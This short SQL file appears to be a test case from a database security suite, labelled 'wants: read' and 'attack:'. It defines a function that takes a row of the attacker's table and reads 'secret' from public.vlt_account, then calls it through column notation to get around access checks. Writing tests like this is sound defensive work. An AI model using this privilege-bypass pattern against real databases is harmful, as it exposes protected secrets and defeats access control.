-- Calls a function of two arguments, one with a default, by the notation of a column.
-- wants: read
-- attack:
CREATE FUNCTION glance(mallory_own, int DEFAULT 1) RETURNS text LANGUAGE sql AS
  'SELECT secret FROM public.vlt_account WHERE id = $2';
INSERT INTO mallory_own VALUES (7, 'x');
SELECT t.glance FROM mallory_own t;
